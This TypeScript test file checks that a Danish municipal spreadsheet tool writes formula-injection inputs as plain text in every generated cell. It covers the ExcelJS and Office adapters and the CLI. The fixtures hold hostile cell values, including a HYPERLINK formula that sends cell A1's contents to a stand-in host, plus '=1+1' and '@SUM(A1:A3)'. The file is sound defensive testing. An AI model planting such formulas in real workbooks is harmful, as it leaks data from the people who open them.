/**
 * Formula injection (issue 5, part 2): text from a cell or a setting that starts with "=", "+",
 * "-" or "@" and reaches a generated cell is written as text by both adapters, never as a formula.
 *
 * The bundled example gets a hostile Kommune (it starts the memo lines and stands in every title),
 * hostile case cells (one is quoted in a remark), and the plan gets review-log lines with hostile
 * Begrundelse/Initialer (as the task pane appends them). Then every generated cell is scanned:
 * - ExcelJS adapter: the .xlsx it writes, read back with ExcelJS: no formula cell, and each
 *   generated cell holds exactly the plan's text;
 * - Office adapter on the simulated Excel, which turns typed "=…", "+…", "-…", "@…" into formulas as
 *   Excel does (checked first, so the scan can fail): no formula, exactly the plan's text;
 * - the CLI (`barometer check --kommune …`): no formula in the output's generated cells, and the
 *   memo starts with the hostile text as text.
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import ExcelJS from 'exceljs';
import { main } from '../../src/cli/main';
import { dayFromYmd } from '../../src/domain/days';
import { evaluate } from '../../src/domain/evaluate';
import { planWrite } from '../../src/domain/plan';
import {
  META_SHEET,
  REVIEW_SHEET,
  type PlanValue,
  type Snapshot,
  type WritePlan,
} from '../../src/domain/types';
import { ExcelJsWorkbook } from '../../src/workbook/exceljs';
import { OfficeWorkbook } from '../../src/workbook/office';
import { createSimulatedExcel, findSheet, cellKey, simWorkbookFromXlsx } from '../excel-sim';
import { fixtureWorkbook, type FixtureData } from '../fixtures/build';
import eksempel from '../fixtures/data/eksempel';
import { FORMULA_TEXTS } from '../property/arbitraries';

const TODAY = dayFromYmd(2026, 11, 23);
const KOMMUNE = '=HYPERLINK("http://example.invalid/?"&A1,"Klik")';

/** The example with hostile text in the settings and in case cells. */
function hostileExample(): FixtureData {
  const headers = eksempel.headers;
  const col = (h: string) => headers.indexOf(h);
  const rows = eksempel.rows.map((r) => [...r]);
  (rows[0] as unknown[])[col('Familie')] = '+45 12 34 56 78';
  (rows[1] as unknown[])[col('Lovlig grund til ingen undersøgelse')] = '=1+1';
  (rows[2] as unknown[])[col('Begrundelse for manglende kontakt')] = '@SUM(A1:A3)';
  // Quoted in the row's remark ("-2" er ikke Ja eller Nej).
  (rows[3] as unknown[])[col('Anket til Ankestyrelsen')] = '-2';
  return { ...eksempel, settings: { ...eksempel.settings, Kommune: KOMMUNE, Initialer: '@AB' }, rows };
}

async function xlsx(data: FixtureData): Promise<Buffer> {
  return Buffer.from(await fixtureWorkbook(data).xlsx.writeBuffer());
}

/** The full plan for a snapshot, plus review-log lines with hostile text (as the pane appends them). */
function planFor(snapshot: Snapshot): WritePlan {
  const result = evaluate(snapshot, { today: TODAY });
  if (!result.ok) throw new Error(result.error.message);
  const plan = planWrite(result.report, snapshot);
  const line = (reason: string): PlanValue[] => [TODAY + 0.5, 1, '2.2', 'Ja', 'Ja', reason, '-AB'];
  return { ...plan, reviewAppend: FORMULA_TEXTS.map(line) };
}

interface Expected {
  readonly sheet: string;
  readonly row: number;
  readonly col: number;
  readonly value: string;
}

/** Every string the plan writes, with its sheet and cell (review lines: rows after `reviewFrom`). */
function expectedTexts(plan: WritePlan, reviewFrom: number): Expected[] {
  const out: Expected[] = [];
  const block = (sheet: string, row: number, col: number, values: readonly (readonly PlanValue[])[]) =>
    values.forEach((r, i) =>
      r.forEach((v, j) => {
        if (typeof v === 'string' && v !== '') out.push({ sheet, row: row + i, col: col + j, value: v });
      }),
    );
  block(plan.caseSheet, plan.verdictBlock.row, plan.verdictBlock.col, plan.verdictBlock.values);
  for (const s of plan.sheets) for (const b of s.blocks) block(s.name, b.row, b.col, b.values);
  block(REVIEW_SHEET, reviewFrom, 1, plan.reviewAppend ?? []);
  return out;
}

const startsHostile = (e: Expected): boolean => /^[=+\-@]/.test(e.value);

describe('formula injection: text that starts with = + - @ stays text in every generated cell', () => {
  let input: Buffer;
  beforeAll(async () => {
    input = await xlsx(hostileExample());
  });

  it('the hostile texts reach generated cells at the start of the text (so the scan is meaningful)', async () => {
    const wb = await ExcelJsWorkbook.fromBuffer(input);
    const plan = planFor(await wb.readSnapshot());
    const hostile = expectedTexts(plan, 2).filter(startsHostile);
    expect(hostile.some((e) => e.sheet === 'Notat' && e.value.startsWith(KOMMUNE))).toBe(true);
    expect(hostile.filter((e) => e.sheet === REVIEW_SHEET).length).toBeGreaterThanOrEqual(
      FORMULA_TEXTS.length,
    );
  });

  it('ExcelJS adapter: no formula cell, every generated cell holds exactly the text', async () => {
    const wb = await ExcelJsWorkbook.fromBuffer(input);
    const plan = planFor(await wb.readSnapshot());
    await wb.apply(plan);
    const back = new ExcelJS.Workbook();
    await back.xlsx.load((await wb.toBuffer()) as unknown as ArrayBuffer);
    for (const e of expectedTexts(plan, 2)) {
      const cell = back.getWorksheet(e.sheet)?.getCell(e.row, e.col);
      expect([e.sheet, cell?.address, cell?.type, cell?.value]).toEqual([
        e.sheet,
        cell?.address,
        ExcelJS.ValueType.String,
        e.value,
      ]);
    }
    // And nowhere in the generated sheets or the review log is there a formula.
    for (const name of [...plan.sheets.map((s) => s.name), REVIEW_SHEET]) {
      back
        .getWorksheet(name)
        ?.eachRow((row) =>
          row.eachCell((c) =>
            expect([name, c.address, c.type]).not.toEqual([name, c.address, ExcelJS.ValueType.Formula]),
          ),
        );
    }
  });

  it('Office adapter on the simulated Excel: no formula, every generated cell holds exactly the text', async () => {
    const sim = createSimulatedExcel(await simWorkbookFromXlsx(input));
    // The simulator coerces like Excel: a typed "=1+1" becomes a formula (so the scan below can fail).
    await sim.run(async (ctx) => {
      ctx.workbook.worksheets.getItem('Sagsoversigt').getRange('ZZ1').values = [['=1+1']];
      await ctx.sync();
    });
    const probe = findSheet(sim.workbook, 'Sagsoversigt')?.cells.get(cellKey(1, 702));
    expect(probe?.formula).toBe('=1+1');
    findSheet(sim.workbook, 'Sagsoversigt')?.cells.delete(cellKey(1, 702));

    const port = new OfficeWorkbook(sim.run, { isSetSupported: sim.isSetSupported });
    const plan = planFor(await port.readSnapshot());
    await port.apply(plan);
    for (const e of expectedTexts(plan, 2)) {
      const c = findSheet(sim.workbook, e.sheet)?.cells.get(cellKey(e.row, e.col));
      expect([e.sheet, e.row, e.col, c?.formula, c?.error, c?.value]).toEqual([
        e.sheet,
        e.row,
        e.col,
        undefined,
        undefined,
        e.value,
      ]);
    }
    for (const name of [...plan.sheets.map((s) => s.name), REVIEW_SHEET, META_SHEET]) {
      const sheet = findSheet(sim.workbook, name);
      for (const [k, c] of sheet?.cells ?? []) expect([name, k, c.formula]).toEqual([name, k, undefined]);
    }
  });

  it.each(FORMULA_TEXTS.filter((t) => t.trim().length > 1))(
    'the CLI with --kommune %j writes it as text',
    async (kommune) => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'barometer-injection-'));
      const file = path.join(dir, 'in.xlsx');
      const out = path.join(dir, 'ud.xlsx');
      fs.writeFileSync(file, input);
      const io = {
        out: () => undefined,
        err: (t: string) => void fs.appendFileSync(path.join(dir, 'err'), t),
      };
      expect(
        await main(['check', file, '--out', out, '--kommune', kommune, '--today', '23-11-2026'], io),
      ).toBe(0);
      const back = new ExcelJS.Workbook();
      await back.xlsx.readFile(out);
      for (const name of ['Resultattabeller', 'Overblik', 'Notat', META_SHEET]) {
        back
          .getWorksheet(name)
          ?.eachRow((row) =>
            row.eachCell((c) =>
              expect([name, c.address, c.type]).not.toEqual([name, c.address, ExcelJS.ValueType.Formula]),
            ),
          );
      }
      const memo =
        back
          .getWorksheet('Notat')
          ?.getColumn(1)
          .values.filter((v): v is string => typeof v === 'string') ?? [];
      expect(memo.some((line) => line.startsWith(`${kommune.trim()} Kommune`))).toBe(true);
      fs.rmSync(dir, { recursive: true, force: true });
    },
  );
});
